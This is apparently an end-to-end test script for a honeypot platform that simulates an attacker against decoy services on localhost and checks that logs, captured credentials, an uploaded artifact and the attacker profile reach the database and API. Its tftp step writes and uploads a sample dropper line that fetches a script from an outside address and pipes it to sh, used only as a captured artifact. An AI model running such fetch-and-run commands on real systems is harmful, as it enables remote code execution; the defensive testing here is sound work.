#!/usr/bin/env bash
# The whole path, with real processes and real clients: attacker -> decky (its services) -> collector's
# UNIX socket -> ingest JSON -> ingester -> DB -> profiler -> API. Asserts on the DB (sqlite3) and on the
# API (curl with a real login). The decky is started the way deploy starts it, with
# --log-target unix:<state>/syslog.sock, beside `decnet fleet up`.
set -euo pipefail
B=${DECNET_BINARY_DIR:?}
SERVICES=${DECKY_SERVICES:-http,ftp,redis,tftp}
for tool in curl sqlite3 tftp redis-cli python3; do
  command -v $tool >/dev/null || apt-get install -y -qq curl sqlite3 tftp-hpa redis-tools python3 >/dev/null
done
S=$(mktemp -d /tmp/decnet-pipeline.XXXXXX)
cleanup() {
  kill "${dpid:-}" 2>/dev/null || true
  [[ -n ${fpid:-} ]] && kill -INT "$fpid" 2>/dev/null && wait "$fpid" 2>/dev/null || true
  [[ -n ${KEEP_STATE:-} ]] || rm -rf "$S"
}
trap cleanup EXIT
fail() { echo "FAIL: $*"; for f in "$S"/logs/*.log "$S/decky.log"; do echo "== $f"; tail -5 "$f"; done; exit 1; }
free_port() { python3 -c 'import socket;s=socket.socket();s.bind(("127.0.0.1",0));print(s.getsockname()[1])'; }
api_port=$(free_port)
export DECNET_JWT_SECRET=pipeline-secret-$RANDOM$RANDOM$RANDOM
printf '[api]\nlisten = 127.0.0.1:%s\n' "$api_port" > "$S/decnet.ini"  # `listen` is the collector's key too
export DECNET_POLL_INTERVAL=1 DECNET_WAKE_DELAY_MS=50
pw=pipeline-admin-$RANDOM-pass
echo "$pw" | DECNET_STATE_DIR=$S "$B/bin/decnet" user add admin --password-stdin >/dev/null
"$B/bin/decnet" fleet up --state-dir "$S" --table-interval 0 > "$S/fleet.out" 2>&1 & fpid=$!
for _ in $(seq 150); do [[ -S $S/syslog.sock ]] && curl -fs "http://127.0.0.1:$api_port/healthz" >/dev/null 2>&1 && break; sleep 0.1; done
[[ -S $S/syslog.sock ]] || fail "collector socket missing"

declare -A port
for svc in ${SERVICES//,/ }; do port[$svc]=$(free_port); done
ports=$(for svc in "${!port[@]}"; do printf '%s=%s,' "$svc" "${port[$svc]}"; done)
"$B/bin/decnet-decky" --state-dir "$S" --decky mail-07 --services "$SERVICES" --ports "${ports%,}" \
  --bind 127.0.0.1 --log-target "unix:$S/syslog.sock" > "$S/decky.log" 2>&1 & dpid=$!
for _ in $(seq 50); do grep -q " up: " "$S/decky.log" && break; sleep 0.1; done
grep -q " up: " "$S/decky.log" || fail "decky did not start"

# The attacker. Each service gets one credential with a non-ASCII byte, so exactness is checked end to end.
secret='pässwörd-1'
cd "$S"
if [[ -n ${port[http]:-} ]]; then
  curl -s -o /dev/null -u "admin:$secret" "http://127.0.0.1:${port[http]}/wp-login.php" || true
fi
if [[ -n ${port[ftp]:-} ]]; then
  curl -s --max-time 5 -u "root:$secret" "ftp://127.0.0.1:${port[ftp]}/" -o /dev/null || true
fi
if [[ -n ${port[redis]:-} ]]; then
  redis-cli -h 127.0.0.1 -p "${port[redis]}" --no-auth-warning -a "$secret" PING >/dev/null 2>&1 || true
fi
if [[ -n ${port[tftp]:-} ]]; then
  echo 'curl http://203.0.113.50/x.sh | sh' > drop.sh
  tftp 127.0.0.1 "${port[tftp]}" -m octet -c put drop.sh >/dev/null
fi

db=$S/decnet.db
[[ -f $db ]] || db=$(ls "$S"/db/*.db 2>/dev/null | head -1)
q() { sqlite3 "$db" "$1" 2>/dev/null || true; }
nsvc=$(tr ',' '\n' <<<"$SERVICES" | wc -l)
for _ in $(seq 100); do
  [[ $(q "SELECT COUNT(DISTINCT service) FROM logs WHERE decky='mail-07' AND service IN ('${SERVICES//,/\',\'}')") -ge $nsvc ]] && break
  sleep 0.2
done
got=$(q "SELECT COUNT(DISTINCT service) FROM logs WHERE decky='mail-07' AND service IN ('${SERVICES//,/\',\'}')")
[[ $got -ge $nsvc ]] || fail "logs for $got of $nsvc services of mail-07 ($(q "SELECT DISTINCT service FROM logs"))"
echo "ok: events of every service reached the DB ($SERVICES)"
[[ $(q "SELECT COUNT(*) FROM logs WHERE decky='mail-07' AND attacker_ip='127.0.0.1'") -gt 0 ]] \
  || fail "no log row with the attacker's address"
if [[ -n ${port[tftp]:-} ]]; then
  sha=$(sha256sum drop.sh | cut -d' ' -f1)
  [[ $(q "SELECT COUNT(*) FROM logs WHERE service='tftp' AND event_type='upload' AND raw_line LIKE '%$sha%'") -ge 1 ]] \
    || fail "tftp upload with its sha256 not in the DB"
  cmp drop.sh "deckies/mail-07/artifacts/$sha" || fail "artifact not kept"
  echo "ok: the tftp upload is in the DB with its SHA-256 and kept as an artifact"
fi
ncred=$((nsvc - ${port[tftp]:+1}))
if ((ncred > 0)); then
  for _ in $(seq 50); do
    [[ $(q "SELECT COUNT(*) FROM credentials WHERE secret='$secret'") -ge $ncred ]] && break; sleep 0.2
  done
  [[ $(q "SELECT COUNT(*) FROM credentials WHERE secret='$secret'") -ge $ncred ]] \
    || fail "credentials stored exactly: $(q "SELECT service, username, secret FROM credentials")"
  echo "ok: $ncred credential(s) stored byte for byte ('$secret')"
fi

# The profiler's view through the API.
URL=http://127.0.0.1:$api_port
token=$(curl -fs -X POST "$URL/api/v1/auth/login" -H 'Content-Type: application/json' \
  -d "{\"username\":\"admin\",\"password\":\"$pw\"}" | python3 -c 'import json,sys; print(json.load(sys.stdin)["access_token"])')
for _ in $(seq 100); do
  body=$(curl -fs -H "Authorization: Bearer $token" "$URL/api/v1/attackers/127.0.0.1" || true)
  [[ $body == *mail-07* ]] && break; sleep 0.2
done
python3 - "$body" "$SERVICES" <<'PY' || fail "API attacker profile: $body"
import json, sys
a = json.loads(sys.argv[1])
a = a.get("attacker", a)
text = json.dumps(a)
assert "mail-07" in text, "decky not in the profile"
for svc in sys.argv[2].split(","):
    assert svc in text, "service %s not in the profile" % svc
PY
echo "ok: the API shows attacker 127.0.0.1 on mail-07 with every service"
